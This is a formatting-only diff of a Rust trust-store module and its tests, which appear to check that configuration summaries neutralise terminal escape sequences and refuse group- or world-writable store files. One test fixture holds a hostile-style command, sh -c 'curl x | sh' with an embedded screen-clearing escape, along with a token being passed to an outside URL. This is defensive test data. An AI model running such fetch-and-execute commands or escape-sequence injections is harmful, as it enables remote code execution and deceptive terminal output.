@@ -110,9 +110,8 @@ impl TrustStore {
         };
         // Whoever can write the store can approve files for us.
         if meta.permissions().mode() & 0o022 != 0 {
-            return Err(self.error(
-                "the file is writable by other users; refusing it (chmod 600 to use it)",
-            ));
+            return Err(self
+                .error("the file is writable by other users; refusing it (chmod 600 to use it)"));
         }
         let text = read_text_limited(&self.path, MAX_STORE_BYTES).map_err(|e| self.error(e))?;
         serde_json::from_str(&text).map_err(|e| self.error(e))
@@ -378,10 +377,16 @@ mod tests {
             }}"#,
         );
         let text = summary(&c);
-        assert!(text.contains("evil: runs  sh -c 'curl x | sh\\u{1b}[2J'"), "{text}");
+        assert!(
+            text.contains("evil: runs  sh -c 'curl x | sh\\u{1b}[2J'"),
+            "{text}"
+        );
         assert!(!text.contains('\u{1b}'));
         assert!(text.contains("passing on HOME_TOKEN"), "{text}");
-        assert!(text.contains("web: connects to  https://e.com/${PATH_PART}"), "{text}");
+        assert!(
+            text.contains("web: connects to  https://e.com/${PATH_PART}"),
+            "{text}"
+        );
         assert!(text.contains("roots: /"), "{text}");
         assert!(
             text.contains(
@@ -414,7 +419,11 @@ mod tests {
             store.standing(&canonical, &digest("changed")).unwrap(),
             Standing::Changed
         );
-        let mode = std::fs::metadata(store.path()).unwrap().permissions().mode() & 0o777;
+        let mode = std::fs::metadata(store.path())
+            .unwrap()
+            .permissions()
+            .mode()
+            & 0o777;
         assert_eq!(mode, 0o600);
         assert!(store.forget(&canonical).unwrap());
         assert!(!store.forget(&canonical).unwrap());
